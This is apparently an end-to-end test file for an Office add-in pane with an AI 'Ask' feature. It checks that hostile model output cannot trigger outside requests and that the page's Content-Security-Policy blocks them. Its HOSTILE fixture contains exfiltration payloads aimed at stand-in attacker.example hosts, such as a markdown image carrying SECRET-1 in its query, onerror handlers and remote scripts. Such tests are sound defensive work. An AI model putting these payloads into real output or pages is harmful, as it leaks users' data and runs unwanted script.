import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { screenshot, settingsStorage, startE2E, type E2E } from '../support/e2e';
import { startMockLlm, type MockLlm } from '../support/mock-llm';
import { inspectPptx } from '../unit/slides/pptx-inspect';

// Nothing leaves the pane except to its own origin and the configured provider: a model answer that names
// remote pictures, scripts and event handlers makes no other request, and the built page's
// Content-Security-Policy is in force (checked by what the browser refuses, not only by the text).

const HOSTILE = [
  '# Report',
  '',
  'Here is the chart: ![chart](https://attacker.example/leak.png?d=SECRET-1)',
  '',
  '<img src="https://img.attacker.example/x.png" onerror="window.__pwned=1">',
  '<script src="https://script.attacker.example/x.js"></script><script>window.__pwned=2</script>',
  '<iframe src="https://frame.attacker.example/"></iframe>',
  '<div style="background:url(https://css.attacker.example/bg.png)">styled</div>',
  '[a link](https://click.attacker.example/) and ![](//proto.attacker.example/p.png)',
  '',
  '- item with ![icon](http://127.0.0.1:9/icon.png)',
].join('\n');

let e2e: E2E;
let llm: MockLlm;
let pictures: Server;
let picturesUrl: string;
const PNG = readFileSync(resolve('assets/icon-32.png'));

beforeAll(async () => {
  llm = await startMockLlm(() => ({ content: HOSTILE, chunkSize: 40 }));
  // A second local site, for pictures the user agrees to fetch (and for requests the policy must refuse).
  pictures = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' });
    res.end(req.url?.startsWith('/pic') ? PNG : 'ok');
  });
  await new Promise<void>((r) => pictures.listen(0, '127.0.0.1', r));
  picturesUrl = `http://127.0.0.1:${(pictures.address() as AddressInfo).port}`;
  e2e = await startE2E();
});
afterAll(async () => {
  await e2e?.close();
  await llm?.close();
  await new Promise((r) => pictures?.close(r));
});

/** Every request the page makes (before the harness decides whether to let it through). */
function requestLog(page: Page): string[] {
  const urls: string[] = [];
  page.on('request', (r) => urls.push(r.url()));
  return urls;
}

/** Requests to anything but the pane's own origin, the provider, and data:/blob:. */
function foreign(urls: string[], allowed: string[]): string[] {
  return urls.filter((u) => !/^(data|blob):/.test(u) && !allowed.some((a) => u.startsWith(a)));
}

/** Policy violations the browser reported in the page (what it refused to load or run). */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

describe('the pane talks to nobody but itself and the provider', () => {
  it('an Ask answer with remote pictures, scripts and event handlers makes no request elsewhere; a picture is a link naming its host', async () => {
    const { page } = await e2e.open({ locale: 'en-US', storage: settingsStorage(llm.url) });
    const urls = requestLog(page);
    await page.getByRole('tab', { name: 'Ask' }).click();
    await page.getByLabel('Your question').fill('summarise the pasted report');
    await page.getByRole('button', { name: 'Send' }).click();
    const answer = page.getByTestId('ask-answer').last();
    await answer.getByText('a link').waitFor();
    await page.getByTestId('ask-usage').waitFor();

    // The picture is a link that names its host; nothing loaded it.
    const link = answer.getByRole('link', { name: /Picture “chart” from attacker\.example — not loaded; click to open it/ });
    await expect(link.getAttribute('href')).resolves.toBe('https://attacker.example/leak.png?d=SECRET-1');
    await expect(answer.locator('img, iframe, script').count()).resolves.toBe(0);
    await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined();
    // Let anything that might load have its chance.
    await page.waitForTimeout(500);
    expect(foreign(urls, [e2e.baseUrl, llm.url])).toEqual([]);
    expect(urls.some((u) => u.startsWith(llm.url))).toBe(true);
    await screenshot(page, 'trust-ask-remote-pictures');
  });

  it('the built page carries the policy, and the browser enforces it: no inline script, no remote picture, no other host', async () => {
    const html = readFileSync(resolve('dist/taskpane/index.html'), 'utf8');
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    expect(policy).toContain("script-src 'self' https://appsforoffice.microsoft.com");
    expect(policy).toContain("img-src 'self' data: blob:");
    expect(html).not.toMatch(/<script>(?!<\/script>)|\son[a-z]+="/);

    const { page } = await e2e.open({ locale: 'en-US', storage: settingsStorage(llm.url) });
    // Chromium reports a request the policy then blocks; what matters is that no answer came back.
    const answered: string[] = [];
    page.on('response', (r) => answered.push(r.url()));
    const violations = await watchViolations(page);
    // The pane added the runtime policy that names exactly the saved provider.
    const metas = await page.evaluate(() => [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute('content')));
    expect(metas).toHaveLength(2);
    expect(metas[1]).toBe(`connect-src 'self' ${llm.url}`);

    const result = await page.evaluate(
      async ([other, provider]) => {
        const s = document.createElement('script');
        s.textContent = 'window.__inline = 1';
        document.head.appendChild(s);
        const img = document.createElement('img');
        img.src = 'https://attacker.example/pixel.png';
        document.body.appendChild(img);
        const tryFetch = (u: string) =>
          fetch(u).then(
            (r) => `status ${r.status}`,
            () => 'blocked',
          );
        await new Promise((r) => setTimeout(r, 300));
        return {
          inline: (window as unknown as { __inline?: number }).__inline ?? null,
          other: await tryFetch(`${other}/x`),
          provider: await tryFetch(`${provider}/models`),
        };
      },
      [picturesUrl, llm.url],
    );
    expect(result.inline).toBeNull();
    expect(result.other).toBe('blocked');
    expect(result.provider).toBe('status 200');
    const seen = await violations();
    expect(seen.some((v) => v.startsWith('script-src-elem inline'))).toBe(true);
    expect(seen).toContain('img-src https://attacker.example/pixel.png');
    expect(seen).toContain(`connect-src ${picturesUrl}/x`);
    expect(foreign(answered, [e2e.baseUrl, llm.url])).toEqual([]);
  });

  it('Settings: another provider address is tested from a frame that reaches only it; the pane itself reaches it only once it is saved', async () => {
    const { page } = await e2e.open({ locale: 'en-US', storage: settingsStorage('https://api.deepseek.com') });
    await page.getByRole('button', { name: 'Settings', exact: true }).click();
    await page.getByLabel('Base URL').fill(llm.url);
    await page.getByRole('button', { name: 'Test connection' }).click();
    await page.getByTestId('connection-ok').waitFor();
    // Tested before saving, and the pane's own policy still names only the saved provider: the pane
    // itself cannot reach the address under test.
    const policies = () =>
      page.evaluate(() => [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute('content')));
    expect((await policies()).at(-1)).toBe("connect-src 'self' https://api.deepseek.com");
    const reach = (url: string) =>
      page.evaluate(
        (u) =>
          fetch(u).then(
            () => 'reached',
            () => 'blocked',
          ),
        url,
      );
    await expect(reach(`${llm.url}/models`)).resolves.toBe('blocked');
    // The test frame's own policy names the one address under test and nothing else; it answers only for it.
    const probe = await page.evaluate(
      async ([tested, other]) => {
        const frame = document.createElement('iframe');
        frame.hidden = true;
        frame.src = `connection-probe.html#origin=${encodeURIComponent(tested)}`;
        const ready = new Promise<void>((r) => window.addEventListener('message', (e) => e.source === frame.contentWindow && r(), { once: true }));
        document.body.appendChild(frame);
        await ready;
        const w = frame.contentWindow as Window & typeof globalThis;
        const policy = [...w.document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute('content')).at(-1);
        const elsewhere = await w.fetch(other).then(
          () => 'reached',
          () => 'blocked',
        );
        const answer = new Promise<unknown>((r) =>
          window.addEventListener('message', (e) => e.source === frame.contentWindow && r((e.data as { report: unknown }).report), { once: true }),
        );
        w.postMessage({ id: 7, settings: { baseURL: other } }, location.origin);
        return { policy, elsewhere, answer: await answer };
      },
      [llm.url, `${picturesUrl}/x`],
    );
    expect(probe).toEqual({ policy: `connect-src ${llm.url}`, elsewhere: 'blocked', answer: null });
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByText('Settings saved. The pane reloaded').waitFor();
    expect((await policies()).at(-1)).toBe(`connect-src 'self' ${llm.url}`);
  });
});

describe('Slides: a picture on another site is fetched only after the user names it', () => {
  const outline = (src: string) => `# Deck\n\n## Picture\n\n![logo](${src})\n\n## Text\n- a point`;

  async function openSlides(): Promise<Page> {
    const { page } = await e2e.open({ locale: 'en-US' });
    await page.getByRole('tab', { name: 'Slides' }).click();
    await page.getByLabel('Outline (Markdown)').waitFor();
    return page;
  }

  it('the preview never fetches it; Download asks, and "Leave them out" downloads with a labelled frame and no request', async () => {
    const page = await openSlides();
    const urls = requestLog(page);
    await page.getByLabel('Outline (Markdown)').fill(outline(`${picturesUrl}/pic.png?d=SECRET-2`));
    await expect.poll(() => page.getByRole('region', { name: 'Preview' }).getByRole('listitem').count()).toBe(4);
    await page.getByRole('button', { name: 'Download .pptx' }).click();
    const consent = page.getByTestId('picture-consent');
    await consent.getByText(`This outline has pictures on other sites: ${picturesUrl.slice(7)}`).waitFor();
    await screenshot(page, 'trust-slides-picture-consent');
    const [download] = await Promise.all([page.waitForEvent('download'), consent.getByRole('button', { name: 'Leave them out' }).click()]);
    const { slides } = await inspectPptx(new Uint8Array(readFileSync((await download.path())!)));
    expect(slides.map((s) => s.title)).toContain('Picture');
    await page.getByText(/was not fetched: 127\.0\.0\.1:\d+ was not allowed/).waitFor();
    expect(urls.filter((u) => u.startsWith(picturesUrl))).toEqual([]);
  });

  it('"Fetch from …" fetches it (through a frame that can reach only that site) and puts it in the deck', async () => {
    const page = await openSlides();
    const urls = requestLog(page);
    await page.getByLabel('Outline (Markdown)').fill(outline(`${picturesUrl}/pic.png`));
    await expect.poll(() => page.getByRole('region', { name: 'Preview' }).getByRole('listitem').count()).toBe(4);
    await page.getByRole('button', { name: 'Download .pptx' }).click();
    const consent = page.getByTestId('picture-consent');
    const [download] = await Promise.all([page.waitForEvent('download'), consent.getByRole('button', { name: /^Fetch from/ }).click()]);
    const bytes = new Uint8Array(readFileSync((await download.path())!));
    const JSZip = (await import('jszip')).default;
    const media = Object.keys((await JSZip.loadAsync(bytes)).files).filter((n) => n.startsWith('ppt/media/'));
    expect(media.length).toBeGreaterThan(0);
    expect(urls.filter((u) => u.startsWith(picturesUrl))).toEqual([`${picturesUrl}/pic.png`]);
  });
});
